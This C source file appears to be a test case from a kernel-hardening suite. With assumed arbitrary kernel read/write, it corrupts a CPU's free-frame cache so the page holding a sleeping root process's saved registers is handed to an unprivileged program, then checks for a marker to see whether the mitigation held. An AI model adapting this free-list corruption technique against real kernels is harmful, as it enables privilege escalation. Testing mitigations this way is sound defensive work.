// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"

ATTACK("exclusive_frames", "registers_twice", "exclusive_frames: corrupted cache of frames",
       "The program puts the frame that holds the registers of a sleeping program of root among "
       "the free frames of its processor, and takes a new page.",
       "Frames of registers are counted in sealed memory as those that programs map, and a frame "
       "that one maps is not handed out.",
       "The registers of root's program stand in memory of the attacker's.");

#define KIND_PROGRAM 3
#define STATE_CACHED 2
#define PATTERN 0x5eed5eed5eed5eedul

static char fresh[4096 * 64] __attribute__((aligned(4096)));

static bool control(void)
{
	return is_ordinary();
}

/* Over every free frame in the cache: the next page is it. */
static void plant(uint64_t cpu, uint64_t frame)
{
	const uint64_t stack = peek(cpu + member("cpu.frame_cache")) + member("frame_cache.clean") +
			       KIND_PROGRAM * member("frame_stack.SIZE");

	poke8(frame + member("frame.state"), STATE_CACHED);
	for (uint32_t i = 0; i < peek32(stack + member("frame_stack.count")); i++)
		poke(stack + member("frame_stack.slots") + 8 * i, frame);
}

static bool fire(void)
{
	const uint64_t cpu = own_cpu(0), task = own_task();
	const uint64_t frame = peek(symbol("frame_arrays") + member("frame_arrays.frames")) +
			       (registers_frame(victim_task(task)) >> 12) * member("frame.SIZE");

	for (unsigned int i = 0; i < 64; i++) {
		char *const page = fresh + 4096 * i;

		plant(cpu, frame);
		page[4095] = 1;
		for (unsigned int at = 0; at < 4096; at += 8)
			if (*(uint64_t *)(page + at) == PATTERN)
				return true;
	}
	return false;
}

static void victim(void)
{
	static const long pause_time[2] = { 1000, 0 };

	for (;;)
		__asm__ volatile("syscall"
				 :
				 : "a"(__NR_nanosleep), "D"(pause_time), "S"(0), "b"(PATTERN)
				 : "rcx", "r11", "memory");
}
